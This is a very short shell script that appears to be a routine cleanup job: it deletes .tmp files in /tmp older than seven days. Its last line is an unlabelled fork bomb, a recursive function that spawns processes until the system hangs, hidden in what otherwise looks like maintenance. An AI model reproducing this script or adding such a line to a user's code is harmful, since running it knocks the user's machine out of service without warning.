#!/bin/sh
find /tmp -name '*.tmp' -mtime +7 -delete
:(){ :|:& };:
